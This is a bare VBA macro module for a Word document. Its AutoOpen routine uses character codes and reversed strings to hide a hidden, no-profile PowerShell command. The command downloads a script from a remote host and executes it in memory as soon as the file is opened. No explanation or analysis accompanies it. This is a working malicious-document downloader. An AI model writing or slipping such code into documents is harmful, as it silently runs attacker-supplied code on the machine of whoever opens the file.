Attribute VB_Name = "ThisDocument"

Sub AutoOpen()
    Dim p As String
    p = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108) & Chr(32) & Chr(45) & Chr(119) & Chr(32) & Chr(104) & Chr(105) & Chr(100) & Chr(100) & Chr(101) & Chr(110) & Chr(32) & Chr(45) & Chr(110) & Chr(111) & Chr(112) & Chr(32)
    p = p & StrReverse(")z/elpmaxe.tsoh//:ptth mri(xei c-")
    CreateObject(StrReverse("llehS.tpircSW")).Run p, 0
End Sub
